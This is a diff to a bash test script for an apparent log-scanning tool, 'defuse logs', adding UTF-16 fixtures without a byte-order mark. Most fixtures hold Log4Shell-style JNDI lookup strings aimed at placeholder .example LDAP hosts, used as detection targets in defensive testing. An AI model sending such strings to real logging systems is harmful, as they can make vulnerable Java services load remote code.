@@ -1,6 +1,7 @@
 #!/usr/bin/env bash
 # logs_inputs.sh -- `defuse logs` reads every kind of input: gzip, bzip2, xz,
-# zstd, lzma, lz4 (by content, also on stdin), UTF-16LE/BE with BOM, Latin-1 lines,
+# zstd, lzma, lz4 (by content, also on stdin), UTF-16LE/BE with and without
+# BOM, Latin-1 lines,
 # CRLF, a last line without newline, a 5 MB line, --max-line, stdin,
 # directories (sorted, recursive, symlinks named and not followed unless
 # --follow-symlinks), binary files, and errors (missing file, corrupt gzip)
@@ -28,6 +29,9 @@ python3 - <<'PY'
 for enc, name in (("utf-16-le", "u16le.log"), ("utf-16-be", "u16be.log")):
     text = "\ufefffirst line\nsecond \u00e9\n${jndi:ldap://" + name[:5] + ".example/a}\nlast\n"
     open(name, "wb").write(text.encode(enc))
+# UTF-16 without a byte-order mark
+open("nb16le.log", "wb").write("first line\n${jndi:ldap://nb16le.example/a}\n".encode("utf-16-le"))
+open("nb16be.log", "wb").write("first line\n${jndi:ldap://nb16be.example/a}\n".encode("utf-16-be"))
 # Latin-1: e-acute as one byte 0xE9 (not valid UTF-8)
 open("latin1.log", "wb").write(b"ok\ncaf\xe9 ${jndi:ldap://latin.example/caf\xe9}\n")
 open("crlf.log", "wb").write(b"a\r\nb\r\n${jndi:ldap://crlf.example/a}\r\n")
@@ -68,6 +72,8 @@ check m.log.lzma 2 lzm
 [ -f l.log.lz4 ] && check l.log.lz4 3 lzf
 check u16le.log 3 u16le
 check u16be.log 3 u16be
+check nb16le.log 2 nb16le
+check nb16be.log 2 nb16be
 check crlf.log 3 crlf
 check nonl.log 3 nonl
 check long.log 2 long
